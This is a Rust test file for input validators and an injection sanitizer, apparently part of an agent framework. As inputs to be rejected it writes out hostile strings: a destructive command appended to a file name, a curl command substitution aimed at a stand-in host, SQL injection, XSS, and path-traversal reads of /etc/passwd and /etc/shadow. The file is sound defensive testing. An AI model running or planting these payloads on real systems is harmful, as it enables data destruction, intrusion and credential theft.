//! Tests for generic input validators

#[cfg(test)]
mod tests {
    use super::super::*;
    use assert_matches::assert_matches;
    use regex::Regex;
    use std::path::Path;

    #[test]
    fn test_string_length_bounds() {
        let constraints = StringConstraints::default().with_length(2, 5);

        assert!(validate_string("name", "abc", &constraints).is_ok());
        assert_matches!(
            validate_string("name", "", &constraints),
            Err(ValidationError::Empty { .. })
        );
        assert_matches!(
            validate_string("name", "a", &constraints),
            Err(ValidationError::TooShort { len: 1, min: 2, .. })
        );
        assert_matches!(
            validate_string("name", "abcdef", &constraints),
            Err(ValidationError::TooLong { len: 6, max: 5, .. })
        );
    }

    #[test]
    fn test_string_length_counts_characters() {
        let constraints = StringConstraints::default().with_length(0, 3);
        assert!(validate_string("city", "Köl", &constraints).is_ok());
    }

    #[test]
    fn test_identifier_constraint() {
        let constraints = StringConstraints::identifier(16);

        assert!(validate_string("tool", "web_search.v2", &constraints).is_ok());
        assert_matches!(
            validate_string("tool", "web search", &constraints),
            Err(ValidationError::PatternMismatch { .. })
        );
        assert_matches!(
            validate_string("tool", "bad\ttool", &constraints),
            Err(ValidationError::ControlCharacters { .. })
        );
    }

    #[test]
    fn test_custom_pattern() {
        let constraints = StringConstraints::default()
            .with_pattern(Regex::new(r"^[a-z]{2}-[A-Z]{2}$").unwrap());

        assert!(validate_string("locale", "en-US", &constraints).is_ok());
        assert!(validate_string("locale", "english", &constraints).is_err());
    }

    #[test]
    fn test_control_characters_rejected() {
        let constraints = StringConstraints::default();
        assert!(validate_string("text", "line one\nline two", &constraints).is_ok());
        assert_matches!(
            validate_string("text", "bell\u{7}", &constraints),
            Err(ValidationError::ControlCharacters { .. })
        );
    }

    #[test]
    fn test_strict_text_rejects_injection_shapes() {
        let constraints = StringConstraints::strict_text(256);

        assert!(validate_string("query", "best pizza near the station", &constraints).is_ok());
        assert_matches!(
            validate_string("query", "x' OR 1=1 --", &constraints),
            Err(ValidationError::DisallowedPattern {
                kind: InjectionKind::Sql,
                ..
            })
        );
        assert_matches!(
            validate_string("query", "<script>alert(1)</script>", &constraints),
            Err(ValidationError::DisallowedPattern {
                kind: InjectionKind::Xss,
                ..
            })
        );
        assert_matches!(
            validate_string("query", "report.txt; rm -rf /", &constraints),
            Err(ValidationError::DisallowedPattern {
                kind: InjectionKind::Command,
                ..
            })
        );
    }

    #[test]
    fn test_only_requested_shapes_rejected() {
        let constraints = StringConstraints::default().rejecting(InjectionKind::Xss);
        assert!(validate_string("q", "SELECT name FROM users", &constraints).is_ok());
        assert!(validate_string("q", "javascript:alert(1)", &constraints).is_err());
    }

    #[test]
    fn test_int_and_float_ranges() {
        assert!(validate_int("limit", 10, 1, 100).is_ok());
        assert_matches!(
            validate_int("limit", 0, 1, 100),
            Err(ValidationError::OutOfRange { .. })
        );

        assert!(validate_float("temperature", 0.7, 0.0, 2.0).is_ok());
        assert_matches!(
            validate_float("temperature", 2.5, 0.0, 2.0),
            Err(ValidationError::OutOfRange { .. })
        );
        assert_matches!(
            validate_float("temperature", f64::NAN, 0.0, 2.0),
            Err(ValidationError::NotFinite { .. })
        );
        assert_matches!(
            validate_float("temperature", f64::INFINITY, 0.0, 2.0),
            Err(ValidationError::NotFinite { .. })
        );
    }

    #[test]
    fn test_resolve_safe_path_within_base() {
        let base = Path::new("/srv/data");

        assert_eq!(
            resolve_safe_path(base, "reports/q1.csv").unwrap(),
            Path::new("/srv/data/reports/q1.csv")
        );
        assert_eq!(
            resolve_safe_path(base, "./reports/../q2.csv").unwrap(),
            Path::new("/srv/data/q2.csv")
        );
        assert_eq!(
            resolve_safe_path(base, "/srv/data/a.txt").unwrap(),
            Path::new("/srv/data/a.txt")
        );
    }

    #[test]
    fn test_resolve_safe_path_rejects_escape() {
        let base = Path::new("/srv/data");

        assert_matches!(
            resolve_safe_path(base, "../etc/passwd"),
            Err(ValidationError::PathTraversal(_))
        );
        assert_matches!(
            resolve_safe_path(base, "reports/../../etc/passwd"),
            Err(ValidationError::PathTraversal(_))
        );
        assert_matches!(
            resolve_safe_path(base, "/etc/passwd"),
            Err(ValidationError::PathTraversal(_))
        );
        assert_matches!(
            resolve_safe_path(base, ""),
            Err(ValidationError::InvalidPath(_))
        );
        assert_matches!(
            resolve_safe_path(base, "a\0b"),
            Err(ValidationError::InvalidPath(_))
        );
    }

    #[cfg(unix)]
    #[test]
    fn test_resolve_safe_path_rejects_symlink_escape() {
        let base = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret.txt"), "x").unwrap();
        std::os::unix::fs::symlink(outside.path(), base.path().join("link")).unwrap();

        assert_matches!(
            resolve_safe_path(base.path(), "link/secret.txt"),
            Err(ValidationError::PathTraversal(_))
        );
    }

    #[test]
    fn test_validate_file_path() {
        assert!(validate_file_path(Path::new("/var/log/aixgo/audit.jsonl")).is_ok());
        assert!(validate_file_path(Path::new("audit.jsonl")).is_ok());
        assert_matches!(
            validate_file_path(Path::new("/var/log/../../etc/cron.d/x")),
            Err(ValidationError::PathTraversal(_))
        );
        assert_matches!(
            validate_file_path(Path::new("")),
            Err(ValidationError::InvalidPath(_))
        );
    }

    #[test]
    fn test_input_sanitizer_detection() {
        let sanitizer = InputSanitizer::new();

        assert_eq!(
            sanitizer.detect_injection("1 UNION SELECT password FROM users"),
            vec![InjectionKind::Sql]
        );
        assert!(
            sanitizer
                .detect_injection("<img src=x onerror=alert(1)>")
                .contains(&InjectionKind::Xss)
        );
        assert!(
            sanitizer
                .detect_injection("$(curl evil.example)")
                .contains(&InjectionKind::Command)
        );
        assert!(
            sanitizer
                .detect_injection("..%2f..%2fetc")
                .contains(&InjectionKind::PathTraversal)
        );
        assert!(sanitizer.detect_injection("Please summarize the attached report").is_empty());
    }

    #[test]
    fn test_input_sanitizer_check() {
        let sanitizer = InputSanitizer::default();
        assert!(sanitizer.check("q", "plain words").is_ok());
        assert_matches!(
            sanitizer.check("q", "../../etc/shadow"),
            Err(ValidationError::DisallowedPattern {
                kind: InjectionKind::PathTraversal,
                ..
            })
        );
    }

    #[test]
    fn test_sanitize_string_escapes_markup() {
        let sanitizer = InputSanitizer::new();
        assert_eq!(
            sanitizer.sanitize_string("<b>\"hi\"</b>\u{0}\n"),
            "&lt;b&gt;&quot;hi&quot;&lt;/b&gt;\n"
        );
        assert_eq!(sanitizer.sanitize_string("it's"), "it&#x27;s");
    }
}
